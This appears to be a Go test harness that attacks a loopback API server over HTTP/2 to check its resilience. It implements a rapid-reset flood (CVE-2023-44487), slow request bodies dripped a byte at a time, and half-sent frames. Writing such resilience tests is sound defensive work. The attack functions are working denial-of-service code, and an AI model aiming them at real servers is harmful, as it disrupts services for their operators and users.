// Package hostile replays, against the real flagpole-apiserver binary (and
// kube-apiserver for comparison), what a hostile peer does to an HTTP/2
// server: streams reset as fast as they are opened, request bodies dripped a
// few bytes at a time, frames left half sent, floods of connections. It speaks
// HTTP/2 frames itself (golang.org/x/net/http2's Framer and hpack), so that
// it can do what no well-behaved client library would. Every attack is
// bounded in time and sends only to loopback.
package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is one HTTP/2 connection this package drives frame by frame.
type Conn struct {
	conn net.Conn
	fr   *http2.Framer

	wmu  sync.Mutex // serialises writes
	henc *hpack.Encoder
	hbuf bytes.Buffer

	nextStream uint32

	// What the reader saw.
	goAway     atomic.Bool
	goAwayAt   atomic.Int64 // unix nanos
	goAwayCode atomic.Uint32
	closed     chan struct{}
	readErr    error
	// responses counts HEADERS frames received (answers started).
	responses atomic.Int64
	// status collects the :status of each answered stream.
	statusMu sync.Mutex
	status   map[uint32]string
	// ends collects streams the server ended (END_STREAM or RST_STREAM).
	ends chan uint32
}

// Dial opens a TLS connection to addr that negotiates h2, sends the client
// preface and settings, and starts a reader that answers pings and settings
// and records what the server says.
func Dial(ctx context.Context, addr string, cfg *tls.Config) (*Conn, error) {
	cfg = cfg.Clone()
	cfg.NextProtos = []string{"h2"}
	d := tls.Dialer{Config: cfg}
	raw, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	tc := raw.(*tls.Conn)
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		raw.Close()
		return nil, fmt.Errorf("negotiated %q, not h2", p)
	}
	c := &Conn{conn: raw, nextStream: 1, closed: make(chan struct{}), status: map[uint32]string{}, ends: make(chan uint32, 4096)}
	c.fr = http2.NewFramer(raw, raw)
	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	c.henc = hpack.NewEncoder(&c.hbuf)
	if _, err := io.WriteString(raw, http2.ClientPreface); err != nil {
		raw.Close()
		return nil, err
	}
	// A large window, so that the server's answers never wait on us.
	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30}); err != nil {
		raw.Close()
		return nil, err
	}
	if err := c.fr.WriteWindowUpdate(0, 1<<30); err != nil {
		raw.Close()
		return nil, err
	}
	go c.read()
	return c, nil
}

func (c *Conn) read() {
	defer close(c.closed)
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			c.readErr = err
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				c.write(func() error { return c.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				c.write(func() error { return c.fr.WritePing(true, f.Data) })
			}
		case *http2.GoAwayFrame:
			if !c.goAway.Swap(true) {
				c.goAwayAt.Store(time.Now().UnixNano())
				c.goAwayCode.Store(uint32(f.ErrCode))
			}
		case *http2.MetaHeadersFrame:
			c.responses.Add(1)
			c.statusMu.Lock()
			c.status[f.StreamID] = f.PseudoValue("status")
			c.statusMu.Unlock()
			if f.StreamEnded() {
				c.ended(f.StreamID)
			}
		case *http2.DataFrame:
			if n := len(f.Data()); n > 0 {
				// Give the server its window back.
				c.write(func() error { return c.fr.WriteWindowUpdate(0, uint32(n)) })
			}
			if f.StreamEnded() {
				c.ended(f.StreamID)
			}
		case *http2.RSTStreamFrame:
			c.ended(f.StreamID)
		}
	}
}

func (c *Conn) ended(id uint32) {
	select {
	case c.ends <- id:
	default:
	}
}

func (c *Conn) write(f func() error) error {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	return f()
}

// Close closes the connection.
func (c *Conn) Close() error { return c.conn.Close() }

// Closed is closed once the server has closed the connection (or it broke).
func (c *Conn) Closed() <-chan struct{} { return c.closed }

// GoAway reports whether the server sent GOAWAY, and when.
func (c *Conn) GoAway() (bool, time.Time) {
	if !c.goAway.Load() {
		return false, time.Time{}
	}
	return true, time.Unix(0, c.goAwayAt.Load())
}

// Request is what a stream asks for.
type Request struct {
	Method, Path, Authority string
	// Header holds regular header fields (lower-case names).
	Header map[string]string
	// ContentLength, when not negative, is announced (the body may never come).
	ContentLength int
}

// open starts a stream with the request's headers; endStream ends it there
// (no body).
func (c *Conn) open(r Request, endStream bool) (uint32, error) {
	c.wmu.Lock()
	defer c.wmu.Unlock()
	id := c.nextStream
	c.nextStream += 2
	c.hbuf.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: r.Method},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: r.Authority},
		{Name: ":path", Value: r.Path},
	}
	if r.ContentLength >= 0 && !endStream {
		fields = append(fields, hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(r.ContentLength)})
	}
	for k, v := range r.Header {
		fields = append(fields, hpack.HeaderField{Name: k, Value: v})
	}
	for _, f := range fields {
		if err := c.henc.WriteField(f); err != nil {
			return 0, err
		}
	}
	return id, c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true, EndStream: endStream})
}

// ResetResult is what a rapid-reset run did and saw.
type ResetResult struct {
	// Resets is how many streams were opened and reset.
	Resets int64
	// GoAway is true when the server sent GOAWAY; After is how long into
	// the run, and AfterResets how many resets had been sent by then.
	GoAway      bool
	After       time.Duration
	AfterResets int64
	// Closed is true when the server closed the connection.
	Closed bool
}

// RapidReset opens streams for r and resets each at once (HEADERS then
// RST_STREAM, as CVE-2023-44487 does) until ctx ends, the server closes the
// connection, or max streams have been reset.
func (c *Conn) RapidReset(ctx context.Context, r Request, max int64) ResetResult {
	start := time.Now()
	var res ResetResult
	r.ContentLength = -1
	for res.Resets < max && ctx.Err() == nil {
		select {
		case <-c.closed:
			res.Closed = true
			return c.resetResult(res, start)
		default:
		}
		id, err := c.open(r, true)
		if err == nil {
			err = c.write(func() error { return c.fr.WriteRSTStream(id, http2.ErrCodeCancel) })
		}
		if err != nil {
			res.Closed = true
			break
		}
		res.Resets++
		if ok, _ := c.GoAway(); ok && res.AfterResets == 0 {
			res.AfterResets = res.Resets
		}
	}
	return c.resetResult(res, start)
}

func (c *Conn) resetResult(res ResetResult, start time.Time) ResetResult {
	if ok, at := c.GoAway(); ok {
		res.GoAway, res.After = true, at.Sub(start)
		if res.AfterResets == 0 {
			res.AfterResets = res.Resets
		}
	}
	return res
}

// SlowBodies opens n streams for r, each announcing r.ContentLength bytes,
// and sends each stream's body one byte every interval (round robin), until
// ctx ends or the bodies are sent. It returns how many streams the server
// answered (any status) while their bodies were incomplete.
func (c *Conn) SlowBodies(ctx context.Context, r Request, n int, interval time.Duration) (opened int, err error) {
	var ids []uint32
	for range n {
		id, err := c.open(r, false)
		if err != nil {
			return len(ids), err
		}
		ids = append(ids, id)
	}
	sent := 0
	t := time.NewTicker(interval)
	defer t.Stop()
	for sent < r.ContentLength*len(ids) {
		select {
		case <-ctx.Done():
			return len(ids), nil
		case <-c.closed:
			return len(ids), nil
		case <-t.C:
		}
		id := ids[sent%len(ids)]
		end := sent/len(ids) == r.ContentLength-1
		if err := c.write(func() error { return c.fr.WriteData(id, end, []byte("{")) }); err != nil {
			return len(ids), err
		}
		sent++
	}
	return len(ids), nil
}

// Answered is how many streams the server has started to answer, and the
// status of each, by stream.
func (c *Conn) Answered() (int64, map[uint32]string) {
	c.statusMu.Lock()
	defer c.statusMu.Unlock()
	out := make(map[uint32]string, len(c.status))
	for k, v := range c.status {
		out[k] = v
	}
	return c.responses.Load(), out
}

// PartialFrame dials addr, completes TLS and the HTTP/2 preface, then sends
// the 9-byte header of a HEADERS frame announcing a payload it never sends,
// and one more byte every drip. It returns how long the server kept the
// connection open (until ctx ends at the latest).
func PartialFrame(ctx context.Context, addr string, cfg *tls.Config, drip time.Duration) (time.Duration, error) {
	c, err := Dial(ctx, addr, cfg)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	start := time.Now()
	// Length 1000, type HEADERS, flags END_HEADERS, stream 1.
	header := []byte{0, 0x03, 0xe8, byte(http2.FrameHeaders), byte(http2.FlagHeadersEndHeaders), 0, 0, 0, 1}
	if err := c.write(func() error { _, err := c.conn.Write(header); return err }); err != nil {
		return 0, err
	}
	t := time.NewTicker(drip)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return time.Since(start), nil
		case <-c.closed:
			return time.Since(start), nil
		case <-t.C:
			if err := c.write(func() error { _, err := c.conn.Write([]byte{0}); return err }); err != nil {
				if errors.Is(err, net.ErrClosed) {
					return time.Since(start), nil
				}
				return time.Since(start), nil
			}
		}
	}
}
